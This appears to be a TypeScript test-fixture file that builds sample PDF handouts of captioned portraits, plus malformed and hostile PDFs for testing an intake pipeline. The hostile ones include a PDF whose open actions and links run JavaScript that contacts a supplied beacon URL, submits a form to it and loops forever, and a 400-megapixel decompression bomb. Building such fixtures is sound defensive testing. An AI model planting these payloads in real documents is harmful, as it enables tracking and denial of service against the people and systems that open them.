/**
 * PDF handouts as partners make them, composed with pdf-lib: a title, a grid of small captioned
 * portraits (cropped to head and shoulders, embedded as JPEGs), one page or several; and the
 * broken ones (password-protected, damaged, too long, with a JavaScript action).
 */
import { readFile } from 'node:fs/promises';
import fontkit from '@pdf-lib/fontkit';
import {
  concatTransformationMatrix,
  drawObject,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  popGraphicsState,
  pushGraphicsState,
  rgb,
} from 'pdf-lib';
import sharp from 'sharp';
import { draftPhotos, lfwPhoto } from './fixtures.js';

const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf';

export interface Portrait {
  /** The photo file. */
  photo: string;
  caption: string;
}

export interface HandoutLayout {
  /** Portrait width in PDF points (1/72 inch); height is 1.25 times. */
  portraitWidth: number;
  /** Pixels of the embedded JPEG, across. */
  embeddedWidth: number;
  columns: number;
}

export const printedList: HandoutLayout = { portraitWidth: 96, embeddedWidth: 160, columns: 4 };

/** Two pages: Powell and Blair, then Putin and Bush (none of them the registry's own photos). */
export const twoPages: Portrait[][] = [
  [
    { photo: lfwPhoto('colin-powell', draftPhotos['colin-powell']), caption: 'Colin Powell' },
    { photo: lfwPhoto('tony-blair', draftPhotos['tony-blair']), caption: 'Tony Blair' },
  ],
  [
    { photo: lfwPhoto('vladimir-putin', draftPhotos['vladimir-putin']), caption: 'Vladimir Putin' },
    { photo: lfwPhoto('george-w-bush', 7), caption: 'George W Bush' },
  ],
];

/** The same handout with Powell's photo printed above Putin's name on page 2. */
export const swappedPages: Portrait[][] = [
  twoPages[0],
  [{ photo: lfwPhoto('colin-powell', draftPhotos['colin-powell']), caption: 'Vladimir Putin' }, twoPages[1][1]],
];

/** An A4 handout, one page per list of portraits, each page titled and the portraits captioned in reading order. */
export async function pdfHandout(pages: Portrait[][], layout: HandoutLayout = printedList, title = 'Crimean political prisoners') {
  const doc = await PDFDocument.create();
  doc.registerFontkit(fontkit);
  const sans = await doc.embedFont(await readFile(font), { subset: true });
  for (const portraits of pages) {
    const page = doc.addPage([595, 842]);
    page.drawText(title, { x: 40, y: 790, size: 20, font: sans, color: rgb(0.1, 0.1, 0.1) });
    const width = layout.portraitWidth;
    const height = width * 1.25;
    const gap = (515 - layout.columns * width) / Math.max(1, layout.columns - 1);
    for (const [index, portrait] of portraits.entries()) {
      const column = index % layout.columns;
      const row = Math.floor(index / layout.columns);
      const x = 40 + column * (width + gap);
      const top = 760 - row * (height + 40);
      // LFW photos centre the face in 250 px; a designer crops to the head and shoulders.
      const jpeg = await sharp(portrait.photo)
        .extract({ left: 45, top: 35, width: 160, height: 200 })
        .resize(layout.embeddedWidth, Math.round(layout.embeddedWidth * 1.25))
        .jpeg({ quality: 80 })
        .toBuffer();
      page.drawImage(await doc.embedJpg(jpeg), { x, y: top - height, width, height });
      page.drawText(portrait.caption, { x, y: top - height - 14, size: 9, font: sans });
    }
  }
  return Buffer.from(await doc.save());
}

/** The handout with a password: an /Encrypt dictionary whose user password is not empty. */
export async function encryptedPdf(pages: Portrait[][]): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdfHandout(pages));
  const random = (length: number) => PDFHexString.of(Buffer.from(Array.from({ length }, (_, i) => (i * 37 + 11) % 256)).toString('hex'));
  doc.context.trailerInfo.Encrypt = doc.context.register(
    doc.context.obj({ Filter: 'Standard', V: 1, R: 2, Length: 40, P: -44, O: random(32), U: random(32) }),
  );
  doc.context.trailerInfo.ID = doc.context.obj([random(16), random(16)]);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** A file that starts as a PDF and then is not one (a broken download). */
export function damagedPdf(): Buffer {
  return Buffer.concat([Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Cat'), Buffer.alloc(2000, 0x5a)]);
}

/** A PDF of `count` blank pages. */
export async function longPdf(count: number): Promise<Buffer> {
  const doc = await PDFDocument.create();
  for (let index = 0; index < count; index++) doc.addPage([595, 842]);
  return Buffer.from(await doc.save());
}

/**
 * The handout with JavaScript run on opening and on every page (an OpenAction, a document-level
 * script, a page's open action, a link that launches a file): a reader that ran it would fetch
 * `beacon` and write a file.
 */
export async function pdfWithJavaScript(pages: Portrait[][], beacon: string): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdfHandout(pages));
  const { context } = doc;
  const script = `app.launchURL("${beacon}", true); this.submitForm("${beacon}"); var x = 1; while (true) { x++; }`;
  const action = context.register(context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }));
  doc.catalog.set(PDFName.of('OpenAction'), action);
  doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFString.of('run'), action] }) }));
  for (const page of doc.getPages()) {
    page.node.set(PDFName.of('AA'), context.obj({ O: action }));
    const link = context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [40, 40, 200, 60],
        A: context.obj({ S: 'URI', URI: PDFString.of(beacon) }),
      }),
    );
    page.node.set(PDFName.of('Annots'), context.obj([link]));
  }
  return Buffer.from(await doc.save());
}

/** One page of 50,000 × 50,000 points (about 17 × 17 metres). */
export async function hugePagePdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([50_000, 50_000]);
  return Buffer.from(await doc.save());
}

/**
 * An A4 page showing one grey image that declares 20,000 × 20,000 pixels (400 megapixels, 400 MB
 * once decoded) in a few bytes: a decompression bomb.
 */
export async function imageBombPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const image = doc.context.register(
    doc.context.flateStream(new Uint8Array(1000), {
      Type: 'XObject',
      Subtype: 'Image',
      Width: 20_000,
      Height: 20_000,
      ColorSpace: 'DeviceGray',
      BitsPerComponent: 8,
    }),
  );
  const name = page.node.newXObject('Bomb', image);
  page.pushOperators(pushGraphicsState(), concatTransformationMatrix(400, 0, 0, 400, 100, 300), drawObject(name), popGraphicsState());
  return Buffer.from(await doc.save());
}

/** A scanned page: the picture (at `dpi`) as the only content of a PDF page of its size, as JPEG; no text layer. */
export async function scannedPdf(picture: Buffer, dpi: number): Promise<Buffer> {
  const { width = 1, height = 1 } = await sharp(picture).metadata();
  const doc = await PDFDocument.create();
  const page = doc.addPage([(width * 72) / dpi, (height * 72) / dpi]);
  const scan = await doc.embedJpg(await sharp(picture).jpeg({ quality: 85 }).toBuffer());
  page.drawImage(scan, { x: 0, y: 0, width: page.getWidth(), height: page.getHeight() });
  return Buffer.from(await doc.save());
}
